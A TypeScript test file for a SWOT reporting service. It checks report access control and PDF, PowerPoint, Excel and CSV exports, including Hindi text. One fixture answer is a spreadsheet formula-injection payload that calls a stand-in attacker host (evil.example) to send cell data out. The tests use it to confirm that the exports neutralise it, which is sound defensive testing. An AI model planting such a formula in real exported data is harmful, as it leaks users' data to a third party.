import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ReportCard, ReportView } from '@foursight/shared/contract/reports';
import { buildTestApp, type TestApp } from '../../../test/build-test-app.ts';
import { LOW_CONFIDENCE_SENTIMENT } from '@foursight/shared/domain/reports';
import { createOpenSwot, createTwoCompanies, submitAnswers, type SignedInCompany } from '../../../test/factories.ts';
import { responseBatches } from '../swots/response-batches.ts';

/**
 * Reports and their files, read back the way a person would: the PDF's text
 * through poppler, the workbook through exceljs, the slides' XML, the CSV
 * through papaparse.
 */
const run = promisify(execFile);

const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const ANSWERS = [
  {
    strengths: 'Excellent customer service from प्रिया शर्मा and the support team, who answer within the hour every day.',
    weaknesses: 'Slow release process; manual testing takes weeks.',
    opportunities: 'Expanding into the Middle East market.',
    threats: INJECTION,
  },
  {
    strengths: 'Great customer service and loyal customers',
    weaknesses: 'Manual testing slows every release.',
    opportunities: 'Middle East market is growing fast, worth ₹40 lakh a year',
    threats: 'Rising cloud costs',
  },
  {
    strengths: 'Customer service is the best in the industry',
    weaknesses: 'Outdated documentation',
    opportunities: 'Partnerships with payment providers',
    threats: '+91 competitors with lower prices',
  },
];

let t: TestApp;
let a: SignedInCompany;
let b: SignedInCompany;
let swotId: string;
let tmp: string;

async function reportOf(company: SignedInCompany, id: string) {
  return company.client.get(`/api/reports/${id}`);
}

beforeAll(async () => {
  t = await buildTestApp({ workers: ['analyse-swot'], env: { ANALYSIS_DELAY_SECONDS: '0' } });
  [a, b] = await createTwoCompanies(t.app);
  tmp = await mkdtemp(path.join(os.tmpdir(), 'reports-test-'));
  const swot = await createOpenSwot(a.client, new Date(), { title: 'Strategy 2027 / Pune' });
  swotId = swot.id;
  await submitAnswers(t.app, swot.uniqueToken, ANSWERS);
  const deadline = Date.now() + 45_000; // in beforeAll (60 s): a loaded machine loads the language model slowly
  for (;;) {
    const report = (await reportOf(a, swotId)).json<{ report: ReportView }>().report;
    if (report.analysisState === 'ready' && report.analysis?.responseCount === ANSWERS.length) break;
    if (Date.now() > deadline) throw new Error('no analysis in time');
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
});
afterAll(async () => {
  await t.close();
  await rm(tmp, { recursive: true, force: true });
});

async function saved(bytes: Buffer, extension: string): Promise<string> {
  const file = path.join(tmp, `${Math.random().toString(36).slice(2)}.${extension}`);
  await writeFile(file, bytes);
  return file;
}

describe('the reports list and the report', () => {
  it('lists the analysis with a reading of it, and the report carries the spec parts', async () => {
    const list = await a.client.get('/api/reports');
    expect(list.statusCode).toBe(200);
    const cards = list.json<{ reports: ReportCard[] }>().reports;
    const card = cards.find((item) => item.id === swotId)!;
    expect(card).toMatchObject({
      title: 'Strategy 2027 / Pune',
      status: 'active',
      responseCount: 3,
      analysisState: 'ready',
    });
    expect(card.reading).toMatch(/overall .*leading theme: customer service \(strengths\)/i);

    const report = (await reportOf(a, swotId)).json<{ report: ReportView }>().report;
    expect(report.status).toBe('Active');
    expect(report.fileStem).toMatch(/^Strategy-2027-Pune-\d{4}-\d{2}-\d{2}$/);
    const strengths = report.analysis!.quadrants.find((q) => q.key === 'strengths')!;
    expect(strengths.themes[0]).toEqual({ label: 'customer service', mentions: 3 });
    // The tone the analysis reads, the one figure the report's chart and table show.
    expect(strengths.tone?.score).toBeGreaterThan(0);
    expect(strengths.tone?.summary).toMatch(/answers are worded positively/);
    // Snippets: at most 3, at most 100 characters, from the strengths answers only.
    expect(strengths.snippets.length).toBeGreaterThan(0);
    expect(strengths.snippets.length).toBeLessThanOrEqual(3);
    for (const text of strengths.snippets) {
      expect(Array.from(text).length).toBeLessThanOrEqual(100);
      expect(text.toLowerCase()).toContain('customer service');
    }
    expect(strengths.snippets.some((text) => text.endsWith('…'))).toBe(true);
    expect(report.analysis!.methodology).toMatch(/^Statistical analysis: .* Based on 3 responses; generated /);
  });

  it('answers "Report Not Found" to another company and to an unknown id, for the report and every file', async () => {
    for (const url of [
      `/api/reports/${swotId}`,
      `/api/reports/${swotId}/pdf`,
      `/api/reports/${swotId}/pptx`,
      `/api/reports/${swotId}/xlsx`,
      `/api/reports/${swotId}/csv`,
    ]) {
      const response = await b.client.get(url);
      expect(response.statusCode, url).toBe(404);
      expect(response.body).toContain('Report Not Found');
      expect(response.body).not.toContain('customer service');
    }
    const pdf = await b.client.post('/api/generate-pdf', { swotId });
    expect(pdf.statusCode).toBe(404);
    expect((await a.client.get('/api/reports/00000000-0000-4000-8000-000000000000')).statusCode).toBe(404);
    expect((await b.client.get('/api/reports')).json<{ reports: ReportCard[] }>().reports).toEqual([]);
  });
});

describe('generate-pdf', () => {
  it("answers the spec's shape with the printable report's html", async () => {
    const response = await a.client.post('/api/generate-pdf', { swotId });
    expect(response.statusCode).toBe(200);
    const body = response.json<{ success: boolean; html: string; filename: string; message: string }>();
    expect(Object.keys(body).sort()).toEqual(['filename', 'html', 'message', 'success']);
    expect(body.success).toBe(true);
    expect(body.filename).toMatch(/^Strategy-2027-Pune-\d{4}-\d{2}-\d{2}\.pdf$/);
    expect(body.html).toContain('<h1>Strategy 2027 / Pune</h1>');
    expect(body.html).toContain('@page { size: A4');
    expect(body.html).toContain('customer service');
    expect(body.html).not.toContain('<script');
    // The answer is escaped, never markup.
    expect(body.html).not.toContain('<a href');
  });
});

describe('a SWOT answered mostly in Hindi', () => {
  it('says its sentiment is a low-confidence reading, on the report and in its html; an English one does not', async () => {
    const swot = await createOpenSwot(b.client, new Date(), { title: 'वार्षिक समीक्षा' });
    await submitAnswers(t.app, swot.uniqueToken, [
      { strengths: 'किसानों का भरोसा', weaknesses: 'सर्वर रोज़ डाउन रहता है' },
      { strengths: 'gaon gaon tak pahunch hai', weaknesses: 'staff ki bahut kami hai' },
      { strengths: 'अनुभवी स्टाफ', weaknesses: 'Slow loan processing' },
    ]);
    let report: ReportView | undefined;
    const deadline = Date.now() + 30_000;
    while (report?.analysisState !== 'ready' || report.analysis?.responseCount !== 3) {
      if (Date.now() > deadline) throw new Error('no analysis in time');
      await new Promise((resolve) => setTimeout(resolve, 100));
      report = (await reportOf(b, swot.id)).json<{ report: ReportView }>().report;
    }
    expect(report.analysis?.sentiment.confidence).toBe('low');
    const html = (await b.client.post('/api/generate-pdf', { swotId: swot.id })).json<{ html: string }>().html;
    expect(html).toContain(LOW_CONFIDENCE_SENTIMENT);

    const english = (await reportOf(a, swotId)).json<{ report: ReportView }>().report;
    expect(english.analysis!.sentiment.confidence).toBe('normal');
    const englishHtml = (await a.client.post('/api/generate-pdf', { swotId })).json<{ html: string }>().html;
    expect(englishHtml).not.toContain(LOW_CONFIDENCE_SENTIMENT);
  });
});

describe('the files', () => {
  it('PDF: an attachment whose text shows the title, a theme with its count and the rupee sign', async () => {
    const response = await a.client.get(`/api/reports/${swotId}/pdf`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/pdf');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="Strategy-2027-Pune-\d{4}-\d{2}-\d{2}\.pdf"/,
    );
    const { stdout } = await run('pdftotext', ['-enc', 'UTF-8', await saved(response.rawPayload, 'pdf'), '-']);
    expect(stdout).toContain('Strategy 2027 / Pune');
    expect(stdout).toContain('customer service: 3');
    expect(stdout).toContain('SWOT grid');
    expect(stdout).toContain('Methodology');
    expect(stdout).toContain('₹40 lakh');
  });

  it('PowerPoint: the slides hold the themes with their counts', async () => {
    const response = await a.client.get(`/api/reports/${swotId}/pptx`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.presentationml.presentation',
    );
    const file = await saved(response.rawPayload, 'pptx');
    const { stdout: names } = await run('unzip', ['-Z1', file]);
    const slides = names.split('\n').filter((name) => /^ppt\/slides\/slide\d+\.xml$/.test(name));
    expect(slides.length).toBe(10); // title, summary, grid, 4 quadrants, TOWS, plan, chart
    const { stdout: xml } = await run('unzip', ['-p', file, 'ppt/slides/*.xml'], { maxBuffer: 1 << 24 });
    expect(xml).toContain('Strategy 2027 / Pune');
    expect(xml).toContain('customer service: 3');
    expect(xml).toContain('Strengths: 3 responses');
    expect(xml).toContain('Threats: 3 responses');
    expect(names).toMatch(/ppt\/charts\/chart\d+\.xml/);
  });

  it('PowerPoint: a square logo stays square on the title slide, and TOWS says where the full strategies are', async () => {
    const squarePng =
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
    const stored = await a.client.post('/api/settings', {
      companyInfo: { name: 'Acme', logo: squarePng, website: '', description: '', timezone: 'Asia/Kolkata' },
    });
    expect(stored.statusCode).toBe(200);
    const response = await a.client.get(`/api/reports/${swotId}/pptx`);
    const file = await saved(response.rawPayload, 'pptx');
    const { stdout: title } = await run('unzip', ['-p', file, 'ppt/slides/slide1.xml']);
    const picture = /<p:pic>[\s\S]*?<a:ext cx="(\d+)" cy="(\d+)"/.exec(title);
    expect(picture).not.toBeNull();
    expect(Number(picture![1])).toBe(Number(picture![2]));
    const { stdout: xml } = await run('unzip', ['-p', file, 'ppt/slides/*.xml'], { maxBuffer: 1 << 24 });
    expect(xml).toContain('Every strategy in full is in the PDF report.');
  });

  it('Excel: the four sheets read back, responses one row each, a formula-like answer kept as typed text', async () => {
    const response = await a.client.get(`/api/reports/${swotId}/xlsx`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toMatch(/\.xlsx"/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Responses', 'Themes', 'Keywords', 'Summary']);
    const responses = workbook.getWorksheet('Responses')!;
    expect(responses.rowCount).toBe(4);
    expect(responses.getRow(1).values).toEqual([
      undefined,
      'Submitted at',
      'Strengths',
      'Weaknesses',
      'Opportunities',
      'Threats',
    ]);
    // Responses are stored shuffled while a SWOT has few of them (anonymity),
    // so each one is found by its words, not its row.
    const rowWith = (text: string) =>
      [2, 3, 4].map((n) => responses.getRow(n)).find((row) => row.getCell(2).value === text)!;
    const first = rowWith(ANSWERS[0]!.strengths);
    expect(first.getCell(1).value).toBeInstanceOf(Date);
    // A string cell is never evaluated: it holds the answer exactly, without the CSV's apostrophe.
    expect(first.getCell(5).value).toBe(INJECTION);
    expect(first.getCell(5).type).toBe(ExcelJS.ValueType.String);
    expect(first.getCell(5).formula).toBeUndefined();
    expect(rowWith(ANSWERS[2]!.strengths).getCell(5).value).toBe('+91 competitors with lower prices');
    expect(rowWith(ANSWERS[2]!.strengths).getCell(5).type).toBe(ExcelJS.ValueType.String);
    const themes = workbook.getWorksheet('Themes')!;
    const themeRows = themes.getSheetValues().slice(2) as unknown[][];
    expect(themeRows).toContainEqual(expect.arrayContaining(['Strengths', 'customer service', 3]));
    expect(workbook.getWorksheet('Keywords')!.rowCount).toBeGreaterThan(1);
    expect(workbook.getWorksheet('Summary')!.getCell('B2').value).toBe('Strategy 2027 / Pune');
  });

  it('CSV: UTF-8 with a byte order mark, a row per response, formulas neutralised, Indian script intact', async () => {
    const response = await a.client.get(`/api/reports/${swotId}/csv`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/\.csv"/);
    const bytes = response.rawPayload;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const parsed = Papa.parse<string[]>(bytes.toString('utf8').slice(1), { skipEmptyLines: true });
    expect(parsed.data[0]).toEqual(['Submitted at (UTC)', 'Strengths', 'Weaknesses', 'Opportunities', 'Threats']);
    expect(parsed.data).toHaveLength(4);
    const rowWith = (text: string) => parsed.data.find((row) => row[1] === text)!;
    const first = rowWith(ANSWERS[0]!.strengths);
    expect(first[1]).toContain('प्रिया शर्मा');
    expect(first[4]).toBe(`'${INJECTION}`);
    expect(rowWith(ANSWERS[2]!.strengths)[4]).toBe(`'+91 competitors with lower prices`);
    expect(rowWith(ANSWERS[1]!.strengths)[3]).toContain('₹40 lakh');
  });
});

describe('reading responses for an export', () => {
  const companyOf = async (company: SignedInCompany) => {
    const result = await t.deps.database.executeSql('SELECT company_id FROM users WHERE email = $1', [
      company.registration.email,
    ]);
    return (result.rows[0] as { company_id: string }).company_id;
  };

  it('pages through responses that share their hour, each once, in submission order', async () => {
    const batches: string[][] = [];
    for await (const batch of responseBatches(t.deps.database.db, await companyOf(a), swotId, 2)) {
      batches.push(batch.map((row) => row.id));
    }
    expect(batches.map((batch) => batch.length)).toEqual([2, 1]);
    expect(new Set(batches.flat()).size).toBe(ANSWERS.length);
  });

  it("reads nothing of another company's SWOT", async () => {
    const rows = [];
    for await (const batch of responseBatches(t.deps.database.db, await companyOf(b), swotId)) rows.push(...batch);
    expect(rows).toEqual([]);
  });
});
